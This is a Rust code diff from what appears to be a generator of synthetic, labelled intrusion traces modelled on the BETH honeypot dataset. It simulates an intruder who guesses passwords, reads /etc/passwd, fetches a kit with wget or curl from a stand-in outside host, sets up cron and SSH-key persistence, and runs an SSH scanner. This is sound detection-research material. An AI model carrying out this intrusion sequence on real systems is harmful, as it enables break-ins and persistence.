@@ -2,22 +2,25 @@
 //!
 //! A stranger guesses passwords, gets in as a new user, looks around, downloads and unpacks a kit,
 //! makes sure to come back (a cron job, a key), and starts a scanner whose hundred threads connect to
-//! other hosts until the recording ends; at times the intruder looks in again. The stages are those
-//! BETH's authors describe of their honeypot (Highnam et al. 2021, Section 4 and Appendix C).
+//! other hosts until the recording ends; guesses go on, and at times the intruder looks in again. BETH's
+//! honeypot saw a break-in of this kind (Highnam et al. 2021).
 //!
 //! Labels: what the intruder's shell and its children do is `evil` and `sus`. sshd's part of the
-//! intruder's logins and guesses, and the service manager started for them, are `sus` only.
+//! intruder's logins and guesses, and the service manager and greeting started for them, are `sus` only.
 
-use super::actions::{ALREADY, APPEND, CREATE, IN_PROGRESS, READ, REFUSED};
-use super::host::{Host, Task};
-use super::programs::{self, Tool};
-use super::remote::{Account, LoginLabels, Session};
+use super::call::{ALREADY, IN_PROGRESS, NO_SUCH_FILE, NOT_PERMITTED, REFUSED};
+use super::files::{APPEND, CREATE};
+use super::host::{Counts, Host};
+use super::process::Task;
+use super::remote::{Account, LoginLabels, Session, Visitor};
 use super::services::Services;
 use super::text::{Label, Peer};
+use super::tools::{self, Tool};
 
 /// Shares of the test split's events, per mille: near BETH's 838 evil and 69 suspicious only.
-const EVIL_SHARE: u64 = 825;
+const EVIL_SHARE: u64 = 830;
 const SUSPICIOUS_SHARE: u64 = 70;
+const BENIGN_SHARE: u64 = 1_000 - EVIL_SHARE - SUSPICIOUS_SHARE;
 /// The break-in begins after this share of the benign events, per mille.
 const QUIET_SHARE: u64 = 600;
 
@@ -35,54 +38,57 @@ const THREADS: usize = 100;
 /// The most calls the scanner makes in one step.
 const BURST: u64 = 4_000;
 
-/// What the intruder types to learn about the host, in this order; each command with the file it is given.
+/// What the intruder types to learn about the host, in this order; each command with its argument.
 static LOOK_AROUND: [(&Tool, &str); 18] = [
-    (&programs::W, ""),
-    (&programs::UNAME, "-a"),
-    (&programs::CAT, "/proc/cpuinfo"),
-    (&programs::LS, "-lah"),
-    (&programs::WHOAMI, ""),
-    (&programs::FREE, "-m"),
-    (&programs::LSCPU, ""),
-    (&programs::PS, "x"),
-    (&programs::GREP, "/proc/meminfo"),
-    (&programs::ID, ""),
-    (&programs::CRONTAB, "-l"),
-    (&programs::WHO, ""),
-    (&programs::CAT, "/etc/passwd"),
-    (&programs::PASSWD, ""),
-    (&programs::DF, "-h"),
-    (&programs::TOP, "-bn1"),
-    (&programs::HEAD, "/etc/os-release"),
-    (&programs::LS, "/var/tmp"),
+    (&tools::W, "-h"),
+    (&tools::UNAME, "-a"),
+    (&tools::CAT, "/proc/cpuinfo"),
+    (&tools::LS, "-lah"),
+    (&tools::WHOAMI, "--"),
+    (&tools::FREE, "-m"),
+    (&tools::LSCPU, "-J"),
+    (&tools::PS, "x"),
+    (&tools::GREP, "/proc/meminfo"),
+    (&tools::ID, "-u"),
+    (&tools::CRONTAB, "-l"),
+    (&tools::WHO, "-a"),
+    (&tools::CAT, "/etc/passwd"),
+    (&tools::PASSWD, "backup"),
+    (&tools::DF, "-h"),
+    (&tools::TOP, "-bn1"),
+    (&tools::HEAD, "/etc/os-release"),
+    (&tools::LS, "/var/tmp"),
 ];
 
 #[derive(Clone, Copy)]
 enum Stage {
     Waiting,
-    Guessing { left: u32 },
-    LookingAround { session: Session, next: usize },
+    /// Passwords are tried; `left` more visitors come after this one.
+    Guessing {
+        visitor: Visitor,
+        left: u32,
+    },
+    LookingAround {
+        session: Session,
+        next: usize,
+    },
     Downloading(Session),
     Unpacking(Session),
     Persisting(Session),
     Launching(Session),
-    Scanning,
-    Visiting { session: Session, left: u32 },
-}
-
-/// A connection attempt of one scanner thread.
-struct Attempt {
-    thread: Task,
-    /// The socket and whom it is for.
-    target: Option<(i64, [u8; 4])>,
+    Away,
+    Visiting {
+        session: Session,
+        left: u32,
+    },
 }
 
 /// The intruder's state between two steps.
 pub(super) struct Campaign {
     stage: Stage,
-    attempts: Vec<Attempt>,
-    /// Counts at the moment the scanner started: (benign, evil).
-    launched_at: (u64, u64),
+    /// When the stage goes on, in microseconds since boot. The scanner does not wait for it.
+    due: u64,
+    scanner: Option<Scanner>,
 }
 
 impl Campaign {
@@ -90,137 +96,89 @@ impl Campaign {
     pub(super) fn new() -> Self {
         Self {
             stage: Stage::Waiting,
-            attempts: Vec::new(),
-            launched_at: (0, 0),
-        }
-    }
-
-    /// Does the next thing; the wait until the one after it, in microseconds.
-    pub(super) fn step(&mut self, host: &mut Host<'_, '_>, services: &Services) -> u64 {
-        self.stage = match self.stage {
-            Stage::Waiting if benign(host) * 1_000 < benign_target(host) * QUIET_SHARE => {
-                return 1_000_000;
-            }
-            Stage::Waiting => Stage::Guessing {
-                left: (host.share() / 10_000).clamp(1, 6) as u32,
-            },
-            Stage::Guessing { left: 0 } => {
-                let session = host.log_in(services, INTRUDER, LABELS);
-                Stage::LookingAround { session, next: 0 }
-            }
-            Stage::Guessing { left } => {
-                host.guess(services);
-                Stage::Guessing { left: left - 1 }
-            }
-            Stage::LookingAround { session, next } => look_around(host, session, next),
-            Stage::Downloading(session) => download(host, session),
-            Stage::Unpacking(session) => unpack(host, session),
-            Stage::Persisting(session) => persist(host, session),
-            Stage::Launching(session) => self.launch(host, services, session),
-            Stage::Scanning => self.scan_or_return(host, services),
-            Stage::Visiting { session, left } => visit(host, services, session, left),
-        };
-        match self.stage {
-            Stage::Scanning | Stage::Visiting { .. } => host.random.around(250_000),
-            _ => host.random.around(900_000),
+            due: 0,
+            scanner: None,
         }
     }
 
     /// True once the intruder's cron job is in place.
     pub(super) fn persists(&self) -> bool {
-        !self.attempts.is_empty()
+        self.scanner.is_some()
     }
 
-    /// The scanner starts, with its threads; the intruder leaves.
-    fn launch(&mut self, host: &mut Host<'_, '_>, services: &Services, session: Session) -> Stage {
-        host.search_path(session.shell, &programs::NOHUP);
-        let wrapper = host.fork(session.shell);
-        host.become_tool(wrapper, &programs::NOHUP, &["./run"]);
-        host.exec(wrapper, "/bin/bash", &["bash", "./run"]);
-        host.load(wrapper, &["libtinfo", "libdl", "libc"]);
-        for tool in [&programs::SLEEP, &programs::UNAME] {
-            host.command(wrapper, tool, &[]);
+    /// Goes on by a moment; the wait until the next one, in microseconds.
+    pub(super) fn step(&mut self, host: &mut Host<'_, '_>, services: &Services) -> u64 {
+        if let Some(scanner) = &mut self.scanner {
+            scanner.keep_up(host);
         }
-        let task = host.fork(wrapper);
-        host.exec(
-            task,
-            &format!("{KIT}/sweepd"),
-            &["./sweepd", "-t", "100", "-p", "22"],
-        );
-        host.load(task, &["libpthread", "libc"]);
-        host.read(task, &format!("{KIT}/targets"));
-        for thread in 0..THREADS {
-            let task = host.start_thread(task);
-            host.set_name(task, &format!("pool-{thread}"));
-            self.attempts.push(Attempt {
-                thread: task,
-                target: None,
-            });
+        if host.now() >= self.due {
+            self.stage = self.next_stage(host, services);
+            self.due = host.now() + host.random.around(900_000);
         }
-        host.log_out(services, session, INTRUDER);
-        self.launched_at = (benign(host), host.counts.evil);
-        Stage::Scanning
+        host.random.around(250_000)
     }
 
-    /// Keeps the shares of evil and suspicious events in step with the benign ones.
-    fn scan_or_return(&mut self, host: &mut Host<'_, '_>, services: &Services) -> Stage {
-        let suspicious_only = host.counts.suspicious - host.counts.evil;
-        if suspicious_only * 1_000 < host.counts.events * SUSPICIOUS_SHARE {
-            host.guess(services);
-            if host.random.one_in(4) {
+    fn next_stage(&mut self, host: &mut Host<'_, '_>, services: &Services) -> Stage {
+        match self.stage {
+            Stage::Waiting
+                if per_mille(host.counts().benign, host) < BENIGN_SHARE * QUIET_SHARE / 1_000 =>
+            {
+                Stage::Waiting
+            }
+            Stage::Waiting => guess(host, services, (host.share() / 15_000).min(5) as u32),
+            Stage::Guessing { visitor, left } => self.guess_on(host, services, visitor, left),
+            Stage::LookingAround { session, next } => look_around(host, session, next),
+            Stage::Downloading(session) => download(host, session),
+            Stage::Unpacking(session) => unpack(host, session),
+            Stage::Persisting(session) => persist(host, session),
+            Stage::Launching(session) => {
+                self.scanner = Some(Scanner::launch(host, session));
+                host.log_out(services, session, INTRUDER);
+                Stage::Away
+            }
+            Stage::Away if per_mille(host.counts().suspicious, host) >= SUSPICIOUS_SHARE => {
+                Stage::Away
+            }
+            Stage::Away if host.random.one_in(4) => {
                 let session = host.log_in(services, INTRUDER, LABELS);
-                return Stage::Visiting {
+                Stage::Visiting {
                     session,
                     left: host.random.between(2, 7),
-                };
+                }
             }
+            Stage::Away => guess(host, services, 0),
+            Stage::Visiting { session, left } => visit(host, services, session, left),
         }
-        let (benign_then, evil_then) = self.launched_at;
-        let progress = benign(host) - benign_then;
-        let remaining = benign_target(host).saturating_sub(benign_then).max(1);
-        let due = evil_then
-            + (host.share() * EVIL_SHARE / 1_000).saturating_sub(evil_then) * progress / remaining;
-        let evil = host.counts.evil;
-        for _ in 0..due.saturating_sub(evil).clamp(20, BURST) {
-            self.connect_somewhere(host);
-        }
-        Stage::Scanning
     }
 
-    /// One thread goes on with its attempt: a new socket, or another look at one whose connection is not there yet.
-    fn connect_somewhere(&mut self, host: &mut Host<'_, '_>) {
-        let place = host.random.below(self.attempts.len() as u32) as usize;
-        let attempt = &mut self.attempts[place];
-        let thread = attempt.thread;
-        let Some((fd, address)) = attempt.target else {
-            let [network, last, ..] = host.random.bits().to_le_bytes();
-            let address = [192, 168, network % 32, last];
-            let fd = host.socket(thread, "AF_INET", "SOCK_STREAM");
-            let peer = host.internet(address, 22);
-            host.connect(thread, fd, &peer, IN_PROGRESS);
-            attempt.target = Some((fd, address));
-            return;
-        };
-        let returns = match host.random.below(64) {
-            0 => REFUSED,
-            1 => 0,
-            _ => ALREADY,
-        };
-        let peer = host.internet(address, 22);
-        host.connect(thread, fd, &peer, returns);
-        if returns != ALREADY {
-            host.close(thread, fd);
-            attempt.target = None;
+    fn guess_on(
+        &self,
+        host: &mut Host<'_, '_>,
+        services: &Services,
+        visitor: Visitor,
+        left: u32,
+    ) -> Stage {
+        match host.wrong_password(services, visitor) {
+            Some(visitor) => Stage::Guessing { visitor, left },
+            None if left > 0 => guess(host, services, left - 1),
+            None if self.scanner.is_some() => Stage::Away,
+            None => Stage::LookingAround {
+                session: host.log_in(services, INTRUDER, LABELS),
+                next: 0,
+            },
         }
     }
 }
 
-fn benign(host: &Host<'_, '_>) -> u64 {
-    host.counts.events - host.counts.suspicious
+fn per_mille(part: u64, host: &Host<'_, '_>) -> u64 {
+    part * 1_000 / host.share()
 }
 
-fn benign_target(host: &Host<'_, '_>) -> u64 {
-    host.share() * (1_000 - EVIL_SHARE - SUSPICIOUS_SHARE) / 1_000
+fn guess(host: &mut Host<'_, '_>, services: &Services, left: u32) -> Stage {
+    Stage::Guessing {
+        visitor: host.visitor(services, Label::Suspicious),
+        left,
+    }
 }
 
 /// One command; how many there are depends on how long the recording is.
@@ -230,14 +188,12 @@ fn look_around(host: &mut Host<'_, '_>, session: Session, next: usize) -> Stage 
         return Stage::Downloading(session);
     };
     if next % 5 == 4 {
-        host.pipeline(
-            session.shell,
-            &[
-                (tool, &[argument]),
-                (&programs::GREP, &["model"]),
-                (&programs::WC, &["-l"]),
-            ],
-        );
+        let tools: [(&Tool, &[&str]); 3] = [
+            (tool, &[argument]),
+            (&tools::GREP, &["-v", "root"]),
+            (&tools::WC, &["-l"]),
+        ];
+        host.pipeline(session.shell, &tools);
     } else {
         host.command_with(session.shell, tool, &[argument], |host, task| {
             if argument.starts_with("/proc/") || argument.starts_with("/etc/") {
@@ -252,16 +208,16 @@ fn look_around(host: &mut Host<'_, '_>, session: Session, next: usize) -> Stage 
 }
 
 fn download(host: &mut Host<'_, '_>, session: Session) -> Stage {
-    host.command(session.shell, &programs::MKDIR, &["-p", KIT]);
-    let tool = host.random.pick(&[&programs::WGET, &programs::CURL]);
+    host.command(session.shell, &tools::MKDIR, &["-p", KIT]);
+    let tool = host.random.pick(&[&tools::WGET, &tools::CURL]);
     host.command_with(
         session.shell,
         tool,
-        &["http://45.9.148.99/kit.tar.gz"],
+        &["http://198.51.100.77/kit.tar.gz"],
         |host, task| {
-            host.resolve_name(task);
+            resolve_name(host, task);
             let fd = host.socket(task, "AF_INET", "SOCK_STREAM");
-            let server = host.internet([45, 9, 148, 99], 80);
+            let server = host.internet([198, 51, 100, 77], 80);
             host.connect(task, fd, &server, 0);
             host.write(task, &format!("{KIT}/kit.tar.gz"), CREATE);
             host.close(task, fd);
@@ -270,14 +226,24 @@ fn download(host: &mut Host<'_, '_>, session: Session) -> Stage {
     Stage::Unpacking(session)
 }
 
+fn resolve_name(host: &mut Host<'_, '_>, task: Task) {
+    let fd = host.socket(task, "AF_UNIX", "SOCK_STREAM|SOCK_CLOEXEC|SOCK_NONBLOCK");
+    host.connect(task, fd, &Peer::Unix("/var/run/nscd/socket"), NO_SUCH_FILE);
+    host.close(task, fd);
+    let fd = host.socket(task, "AF_INET", "SOCK_DGRAM|SOCK_CLOEXEC|SOCK_NONBLOCK");
+    let resolver = host.internet([127, 0, 0, 53], 53);
+    host.connect(task, fd, &resolver, 0);
+    host.close(task, fd);
+}
+
 fn unpack(host: &mut Host<'_, '_>, session: Session) -> Stage {
     host.command_with(
         session.shell,
-        &programs::TAR,
+        &tools::TAR,
         &["xzf", "kit.tar.gz"],
         |host, task| {
             host.read(task, &format!("{KIT}/kit.tar.gz"));
-            host.run(task, &programs::GZIP, &["-d"]);
+            host.run(task, &tools::GZIP, &["-d"]);
             for file in [
                 "run",
                 "sweepd",
@@ -297,34 +263,30 @@ fn unpack(host: &mut Host<'_, '_>, session: Session) -> Stage {
     );
     host.command_with(
         session.shell,
-        &programs::RM,
+        &tools::RM,
         &["-f", "kit.tar.gz"],
         |host, task| {
             host.unlinkat(task, KIT, "kit.tar.gz");
         },
     );
-    host.command(session.shell, &programs::CHMOD, &["+x", "run", "sweepd"]);
+    host.command(session.shell, &tools::MV, &["init", ".init"]);
+    host.command(session.shell, &tools::CHMOD, &["+x", "run", "sweepd"]);
     Stage::Persisting(session)
 }
 
 fn persist(host: &mut Host<'_, '_>, session: Session) -> Stage {
-    host.command_with(session.shell, &programs::CRONTAB, &["upd"], |host, task| {
+    host.command_with(session.shell, &tools::CRONTAB, &["upd"], |host, task| {
         host.read(task, &format!("{KIT}/upd"));
         host.write_private(task, "/var/spool/cron/crontabs/tmp.q8RzZk");
         host.stat(task, "/var/spool/cron/crontabs", true);
     });
     let keys = format!("{}/.ssh", INTRUDER.home);
-    host.command_with(
-        session.shell,
-        &programs::RM,
-        &["-rf", ".ssh"],
-        |host, task| {
-            host.unlinkat(task, &keys, "authorized_keys");
-        },
-    );
-    host.command(session.shell, &programs::MKDIR, &[".ssh"]);
+    host.command_with(session.shell, &tools::RM, &["-rf", ".ssh"], |host, task| {
+        host.unlinkat(task, &keys, "authorized_keys");
+    });
+    host.command(session.shell, &tools::MKDIR, &[".ssh"]);
     host.write(session.shell, &format!("{keys}/authorized_keys"), APPEND);
-    host.command(session.shell, &programs::CHMOD, &["-R", "go=", ".ssh"]);
+    host.command(session.shell, &tools::CHMOD, &["-R", "go=", ".ssh"]);
     Stage::Launching(session)
 }
 
@@ -332,7 +294,7 @@ fn persist(host: &mut Host<'_, '_>, session: Session) -> Stage {
 fn visit(host: &mut Host<'_, '_>, services: &Services, session: Session, left: u32) -> Stage {
     if left == 0 {
         host.log_out(services, session, INTRUDER);
-        return Stage::Scanning;
+        return Stage::Away;
     }
     let (tool, argument) = host.random.pick(&LOOK_AROUND);
     host.command(session.shell, tool, &[argument]);
@@ -342,39 +304,96 @@ fn visit(host: &mut Host<'_, '_>, services: &Services, session: Session, left: u
     }
 }
 
-impl Host<'_, '_> {
-    /// The intruder's cron job, run by the host's own cron.
-    pub(super) fn intruders_job(&mut self, services: &Services) {
-        let (child, job) =
-            self.cron_child(services, "/var/spool/cron/crontabs/backup", INTRUDER.user);
-        self.set_label(job, Label::Evil);
-        self.script_of(job, |host, shell| {
-            host.read(shell, &format!("{KIT}/upd"));
-            host.command(shell, &programs::PS, &["x"]);
-            host.command(shell, &programs::GREP, &["sweepd"]);
-        });
-        self.exit(child);
+/// The intruder's cron job, run by the host's own cron.
+pub(super) fn intruders_job(host: &mut Host<'_, '_>, services: &Services) {
+    let (child, job) = host.cron_child(services, "/var/spool/cron/crontabs/backup", INTRUDER.user);
+    host.tasks.set_label(job, Label::Evil);
+    host.become_script(job, |host, shell| {
+        host.read(shell, &format!("{KIT}/upd"));
+        host.pipeline(shell, &[(&tools::PS, &["x"]), (&tools::GREP, &["sweepd"])]);
+    });
+    host.exit(child);
+}
+
+/// The scanner: one process, many threads, each with one connection attempt at a time.
+struct Scanner {
+    /// A thread, and the socket and address it is busy with.
+    attempts: Vec<(Task, Option<(i64, [u8; 4])>)>,
+    launched_at: Counts,
+}
+
+impl Scanner {
+    /// Starts from the intruder's shell, by a script that first stops what it takes for rivals.
+    fn launch(host: &mut Host<'_, '_>, session: Session) -> Self {
+        host.search_path(session.shell, &tools::NOHUP);
+        let script = host.fork(session.shell);
+        host.become_tool(script, &tools::NOHUP, &["./run"]);
+        host.exec(script, "/bin/bash", &["bash", "./run"]);
+        host.load(script, &["libtinfo", "libdl", "libc"]);
+        for rival in host.tasks.ids().into_iter().rev().take(6) {
+            host.kill(script, rival, 9, NOT_PERMITTED);
+        }
+        host.command(script, &tools::SLEEP, &["1"]);
+        let scanner = host.fork(script);
+        host.exec(
+            scanner,
+            &format!("{KIT}/sweepd"),
+            &["./sweepd", "-t", "100", "-p", "22"],
+        );
+        host.load(scanner, &["libpthread", "libc"]);
+        host.read(scanner, &format!("{KIT}/targets"));
+        let attempts = (0..THREADS)
+            .map(|thread| (start_pool_thread(host, scanner, thread), None))
+            .collect();
+        host.exit(script);
+        Self {
+            attempts,
+            launched_at: host.counts(),
+        }
     }
 
-    /// Asks the local resolver.
-    fn resolve_name(&mut self, task: Task) {
-        let fd = self.socket(task, "AF_UNIX", "SOCK_STREAM|SOCK_CLOEXEC|SOCK_NONBLOCK");
-        self.connect(
-            task,
-            fd,
-            &Peer::Unix("/var/run/nscd/socket"),
-            super::actions::NO_SUCH_FILE,
-        );
-        self.close(task, fd);
-        let fd = self.socket(task, "AF_INET", "SOCK_DGRAM|SOCK_CLOEXEC|SOCK_NONBLOCK");
-        let resolver = self.internet([127, 0, 0, 53], 53);
-        self.connect(task, fd, &resolver, 0);
-        self.close(task, fd);
-        self.open_fails(
-            task,
-            "/etc/resolv.conf.d/local",
-            READ,
-            super::actions::NO_SUCH_FILE,
-        );
+    /// Scans until evil events have come as far towards their share as benign ones towards theirs.
+    fn keep_up(&mut self, host: &mut Host<'_, '_>) {
+        let (counts, then) = (host.counts(), self.launched_at);
+        let benign_goal = (host.share() * BENIGN_SHARE / 1_000)
+            .saturating_sub(then.benign)
+            .max(1);
+        let evil_goal = (host.share() * EVIL_SHARE / 1_000).saturating_sub(then.evil);
+        let due = then.evil + evil_goal * (counts.benign - then.benign) / benign_goal;
+        for _ in 0..due.saturating_sub(counts.evil).clamp(20, BURST) {
+            self.advance(host);
+        }
     }
+
+    /// One thread goes on: a new socket, or another look at one whose connection is not there yet.
+    fn advance(&mut self, host: &mut Host<'_, '_>) {
+        let place = host.random.below(self.attempts.len() as u32) as usize;
+        let (thread, attempt) = &mut self.attempts[place];
+        let Some((fd, address)) = *attempt else {
+            let [network, last, ..] = host.random.bits().to_le_bytes();
+            let address = [192, 168, network % 32, last];
+            let fd = host.socket(*thread, "AF_INET", "SOCK_STREAM");
+            let peer = host.internet(address, 22);
+            host.connect(*thread, fd, &peer, IN_PROGRESS);
+            *attempt = Some((fd, address));
+            return;
+        };
+        let returns = match host.random.below(64) {
+            0 => REFUSED,
+            1 => 0,
+            _ => ALREADY,
+        };
+        let peer = host.internet(address, 22);
+        host.connect(*thread, fd, &peer, returns);
+        if returns != ALREADY {
+            host.close(*thread, fd);
+            *attempt = None;
+        }
+    }
+}
+
+fn start_pool_thread(host: &mut Host<'_, '_>, scanner: Task, number: usize) -> Task {
+    let thread = host.start_thread(scanner);
+    host.set_name(thread, &format!("pool-{number}"));
+    thread
 }
